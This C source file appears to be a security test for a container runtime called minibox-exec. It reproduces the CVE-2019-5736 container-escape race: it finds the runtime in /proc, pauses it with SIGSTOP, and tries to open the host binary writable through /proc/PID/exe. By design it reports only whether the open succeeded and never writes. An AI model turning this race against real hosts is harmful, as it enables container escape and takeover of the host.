/*
 * exe-hijack COUNT: CVE-2019-5736 from inside a container, the way the
 * published exploit does it. Watch /proc for a process of the runtime
 * entering the container (its cmdline names minibox-exec: cmdline stays
 * readable whatever the process's dumpable flag), stop it with SIGSTOP to
 * hold the race open (container root may signal it: same user namespace),
 * then try to get a writable descriptor for the host binary it runs:
 *   - open /proc/PID/exe O_PATH, then reopen /proc/self/fd/N O_WRONLY,
 *     retrying a few times on ETXTBSY;
 *   - open /proc/PID/exe O_WRONLY directly.
 * Never writes a byte: an open that succeeds is the finding, and the test
 * must not damage the host to prove it. Prints one line per process caught
 * (its first try that opened the link, else its last refused one)
 *   caught PID exe=PATH|ERRNO path=ok|ERRNO reopen=ok|ERRNO direct=ok|ERRNO
 * and exits after COUNT (or runs on, for `run -d`, with COUNT 0).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Retry on ETXTBSY as the exploit does (it waits for the runtime to exit). */
static int open_retrying(const char *path, int flags)
{
	int fd = -1;
	for (int i = 0; i < 50; i++) {
		fd = open(path, flags | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		usleep(2000);
	}
	return fd;
}

/* "ok" (and the descriptor closed) or the errno as a number. */
static void outcome(int fd, char *buf, size_t len)
{
	if (fd >= 0)
		snprintf(buf, len, "ok");
	else
		snprintf(buf, len, "%d", errno);
	if (fd >= 0)
		close(fd);
}

/* Whether PID's argv[0] is the runtime's executor. */
static bool is_runtime(pid_t pid)
{
	char path[64], cmd[4096];
	snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	ssize_t n = read(fd, cmd, sizeof(cmd) - 1);
	close(fd);
	if (n <= 0)
		return false;
	cmd[n] = 0;
	return strstr(cmd, "minibox-exec") != NULL;
}

/* One try at a writable descriptor, described in `line`; true when the O_PATH open worked. */
static bool attack(pid_t pid, char *line, size_t len)
{
	char exe[64], self[64], link[4096], path[16], reopen[16] = "-", direct[16];
	snprintf(exe, sizeof(exe), "/proc/%d/exe", (int)pid);
	ssize_t n = readlink(exe, link, sizeof(link) - 1);
	if (n < 0)
		snprintf(link, sizeof(link), "%d", errno);
	else
		link[n] = 0;
	int path_fd = open(exe, O_PATH | O_CLOEXEC);
	if (path_fd >= 0) {
		snprintf(self, sizeof(self), "/proc/self/fd/%d", path_fd);
		/* It may have exec'd the container's program just before the open:
		 * then we hold that, not the runtime, and this try does not count. */
		char held[4096];
		ssize_t m = readlink(self, held, sizeof(held) - 1);
		held[m > 0 ? m : 0] = 0;
		if (!strstr(held, "minibox-exec")) {
			close(path_fd);
			return false;
		}
		outcome(open_retrying(self, O_WRONLY), reopen, sizeof(reopen));
	}
	bool opened = path_fd >= 0;
	outcome(path_fd, path, sizeof(path));
	outcome(open_retrying(exe, O_WRONLY), direct, sizeof(direct));
	/* Refused, but perhaps only because it exec'd meanwhile (then the link
	 * and the direct open were the container program's): a try counts only
	 * if it is still the runtime after it, as exec is one way. */
	if (!opened && !is_runtime(pid))
		return false;
	snprintf(line, len, "caught %d exe=%.256s path=%s reopen=%s direct=%s", (int)pid, link, path, reopen,
		 direct);
	return opened;
}

/*
 * Try while the process is still the runtime: stopped (SIGSTOP) for each
 * try, let run a little in between, so every stage it passes through before
 * its execve gets tried (the exploit's race, made near certain). One line is
 * printed: the first try that opened the link, else the last.
 */
static void hunt(pid_t pid)
{
	char line[512] = "";
	for (int round = 0; round < 5000; round++) {
		bool stopped = kill(pid, SIGSTOP) == 0;
		/* Once it has exec'd, its exe is the container's program: done. */
		bool opened = stopped && is_runtime(pid) && attack(pid, line, sizeof(line));
		if (stopped)
			kill(pid, SIGCONT);
		if (opened || !stopped || !is_runtime(pid))
			break;
		usleep(20);
	}
	if (line[0]) {
		printf("%s\n", line);
		fflush(stdout);
	}
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: exe-hijack COUNT\n");
		return 2;
	}
	int want = atoi(argv[1]), caught = 0;
	pid_t seen[64];
	int nseen = 0;
	while (want == 0 || caught < want) {
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			pid_t pid = (pid_t)atoi(e->d_name);
			int known = pid <= 0 || pid == getpid();
			for (int i = 0; i < nseen && !known; i++)
				known = seen[i] == pid;
			if (known || !is_runtime(pid))
				continue;
			hunt(pid);
			if (nseen < 64)
				seen[nseen++] = pid;
			caught++;
		}
		closedir(d);
	}
	return 0;
}
